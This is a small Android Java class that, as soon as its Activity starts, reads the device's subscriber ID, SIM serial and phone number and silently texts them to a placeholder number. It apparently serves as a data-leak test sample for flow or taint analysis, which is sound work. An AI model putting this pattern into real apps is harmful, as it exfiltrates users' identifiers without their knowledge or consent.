package org.consentry.flow.platform.otheridentifiers;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String text = phone.getSubscriberId() + ";" + phone.getSimSerialNumber() + ";" + phone.getLine1Number();
        String size = "none";
        SmsManager.getDefault().sendTextMessage("+10000000", null, text, null, null);
        Log.i("size", size);
    }
}
